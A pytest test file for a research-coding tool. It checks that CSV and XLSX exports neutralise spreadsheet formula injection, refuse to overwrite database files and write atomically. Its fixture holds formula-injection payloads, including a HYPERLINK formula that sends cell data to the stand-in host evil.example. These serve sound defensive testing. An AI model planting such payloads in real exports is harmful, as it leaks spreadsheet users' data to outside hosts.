"""Exports are safe to open and never destroy anything (issue 15, items 2 and 5).

- CSV cells that a spreadsheet would run as a formula get a leading quote (OWASP), and
  ``coder import`` of that CSV into a fresh project gives back the exact ids and texts;
- XLSX cells holding such text are typed as text, never as formulas;
- ``--out`` pointing at the project, its WAL file or any SQLite file is refused;
- every output is written atomically: a failing writer leaves the old file whole.
"""

from __future__ import annotations

import csv
import os
from pathlib import Path

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook

from coder import atomic
from coder.cells import neutralise, restore
from coder.cli import cli
from coder.errors import CoderError
from coder.store import Store
from schemas import Response

HOSTILE = {
    "=1+1": '=HYPERLINK("http://evil.example/?leak="&A1, "click")',
    "+plus": "+SUM(1,2)",
    "-minus": "-2+3",
    "@at": "@SUM(A1:A2)",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "quoted": "'=already quoted",
    "plain": "An ordinary answer about leadership.",
    "neg": "-",
}


@pytest.fixture
def project(tmp_path: Path) -> Path:
    db = tmp_path / "project.db"
    result = CliRunner().invoke(cli, ["codebook", "add", "--example", "--db", str(db)])
    assert result.exit_code == 0, result.output
    with Store(db) as store:
        store.add_responses(
            Response(id=rid, text=text, question="H1", respondent=f"=resp{n}")
            for n, (rid, text) in enumerate(HOSTILE.items())
        )
    return db


def test_neutralise_is_reversible() -> None:
    for text in [*HOSTILE.values(), "''=x", "'", "", "a=b", "''", "'+"]:
        assert restore(neutralise(text)) == text
        escaped = neutralise(text)
        assert not escaped or escaped[0] not in "=+-@\t\r"


def test_csv_export_neutralises_formulas_and_reimports_exactly(
    project: Path, tmp_path: Path
) -> None:
    out = tmp_path / "export.csv"
    result = CliRunner().invoke(cli, ["export", "--db", str(project), "--out", str(out)])
    assert result.exit_code == 0, result.output
    with out.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    for row in rows:
        for column, value in row.items():
            assert not value or value[0] not in "=+-@\t\r", (column, value)
    by_id = {restore(row["response_id"]): row for row in rows}
    assert by_id["=1+1"]["text"] == "'" + HOSTILE["=1+1"]
    assert by_id["=1+1"]["response_id"] == "'=1+1"
    assert by_id["quoted"]["text"] == "''=already quoted"
    assert by_id["plain"]["text"] == HOSTILE["plain"]
    # Round trip: import the export into a fresh project.
    fresh = tmp_path / "fresh.db"
    runner = CliRunner()
    assert runner.invoke(cli, ["codebook", "add", "--example", "--db", str(fresh)]).exit_code == 0
    result = runner.invoke(cli, ["import", str(out), "--db", str(fresh)])
    assert result.exit_code == 0, result.output
    with Store(fresh) as store:
        imported = {response.id: response for response in store.responses()}
    assert {rid: r.text for rid, r in imported.items()} == HOSTILE
    assert {r.respondent for r in imported.values()} == {f"=resp{n}" for n in range(len(HOSTILE))}


def test_xlsx_export_writes_text_cells_never_formulas(project: Path, tmp_path: Path) -> None:
    out = tmp_path / "export.xlsx"
    result = CliRunner().invoke(cli, ["export", "--db", str(project), "--out", str(out)])
    assert result.exit_code == 0, result.output
    sheet = load_workbook(out).worksheets[0]
    header = [cell.value for cell in sheet[1]]
    texts = {}
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
        texts[row[header.index("response_id")].value] = row[header.index("text")].value
    assert texts["=1+1"] == HOSTILE["=1+1"]  # stored as the very text, typed as a string


@pytest.mark.parametrize("fmt", ["csv", "jsonl", "xlsx", "qdpx"])
def test_export_refuses_to_overwrite_the_project_or_any_sqlite_file(
    project: Path, tmp_path: Path, fmt: str
) -> None:
    before = project.read_bytes()
    other = tmp_path / "other.db"
    Store(other).close()
    other_before = other.read_bytes()
    for target, message in (
        (project, "project file itself"),
        (Path(f"{project}-wal"), "working file"),
        (other, "SQLite database"),
    ):
        result = CliRunner().invoke(
            cli, ["export", "--db", str(project), "--format", fmt, "--out", str(target)]
        )
        assert result.exit_code == 1, result.output
        assert message in result.output and "Traceback" not in result.output
    assert project.read_bytes() == before
    assert other.read_bytes() == other_before


def test_a_failed_write_leaves_the_old_file_whole(tmp_path: Path) -> None:
    target = tmp_path / "export.csv"
    target.write_text("old complete content\n")
    os.chmod(target, 0o640)

    def half_then_fail(path: Path) -> None:
        path.write_text("half a new fi")
        raise OSError("disk full")

    # A clear error that names the file and says the old one is kept (no traceback).
    with pytest.raises(atomic.OutputError, match="disk full; the previous export.csv is unchanged"):
        atomic.write_atomically(target, half_then_fail)
    assert target.read_text() == "old complete content\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["export.csv"]  # no temp file left
    atomic.write_atomically(target, lambda path: path.write_text("new\n"))
    assert target.read_text() == "new\n"
    assert target.stat().st_mode & 0o777 == 0o640  # the replaced file's permissions kept


def test_check_output_path_names_the_path(tmp_path: Path) -> None:
    with pytest.raises(CoderError, match="is a directory"):
        atomic.check_output_path(tmp_path)
    atomic.check_output_path(tmp_path / "new.csv", protect=[tmp_path / "p.db"])
